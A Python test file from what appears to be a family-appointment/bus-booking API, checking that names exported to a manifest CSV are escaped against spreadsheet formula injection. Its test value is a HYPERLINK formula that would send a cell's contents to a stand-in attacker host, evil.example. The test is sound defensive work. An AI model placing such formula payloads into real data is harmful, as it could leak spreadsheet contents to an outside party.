"""A name that is a spreadsheet formula comes out of manifest.csv as text, not a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import sys
from pathlib import Path

from sqlalchemy import text

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "api"))
from helpers import staff

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Ana")'


def test_formula_names_are_escaped_in_the_manifest(client, clock, confirmed):
    (fam, reg, offer), *_ = confirmed
    with client.app.state.engine.begin() as c:  # a name as typed at registration
        c.execute(text("UPDATE person SET family_names = :f WHERE registration_id = :r"),
                  {"f": FORMULA, "r": reg["id"]})
    seat = client.post(f"/corridor/appointments/{offer['id']}/seats", headers=fam).json()
    coord = staff(client, "coordinator")
    appt = dt.date.fromisoformat(offer["appointment_date"])
    r = client.post("/corridor/plans", json={"start": str(appt - dt.timedelta(days=2)),
                                             "days": 2, "seconds": 2}, headers=coord)
    assert r.status_code == 201, r.text
    bus = client.get(f"/corridor/seats/{seat['id']}", headers=fam).json()["bus"]
    body = client.get(f"/corridor/buses/{bus['id']}/manifest.csv", headers=coord).text
    rows = list(csv.reader(io.StringIO(body.split("\n", 1)[1])))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
